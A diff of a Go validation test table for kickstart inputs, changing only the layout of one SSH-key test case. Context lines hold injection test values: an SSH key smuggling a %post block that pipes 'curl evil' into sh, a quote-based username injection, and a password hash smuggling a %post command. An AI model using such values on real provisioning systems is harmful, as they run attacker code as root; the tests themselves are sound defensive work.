@@ -38,7 +38,9 @@ func TestPodInputRules(t *testing.T) {
 		{"ssh key with newline", mod(func(p *Pod) { p.Kickstart.SSHKeys = []string{"ssh-ed25519 AAAA x\n%post\ncurl evil|sh\n%end"} }), "not one OpenSSH public key line"},
 		{"ssh key with quote", mod(func(p *Pod) { p.Kickstart.SSHKeys = []string{`ssh-ed25519 AAAA x" --username=evil`} }), "not one OpenSSH public key line"},
 		{"ssh key plain text", mod(func(p *Pod) { p.Kickstart.SSHKeys = []string{"hello"} }), "not one OpenSSH public key line"},
-		{"ssh key ok", mod(func(p *Pod) { p.Kickstart.SSHKeys = []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example"} }), ""},
+		{"ssh key ok", mod(func(p *Pod) {
+			p.Kickstart.SSHKeys = []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example"}
+		}), ""},
 		{"password hash with newline", mod(func(p *Pod) { p.Kickstart.RootPasswordHash = "$6$s$h\n%post\nid\n%end" }), "not a crypt(3) hash"},
 		{"plain password", mod(func(p *Pod) { p.Kickstart.RootPasswordHash = "hunter2" }), "not a crypt(3) hash"},
 		{"password hash ok", mod(func(p *Pod) { p.Kickstart.RootPasswordHash = "$6$rounds=5000$salt$abc./XYZ" }), ""},
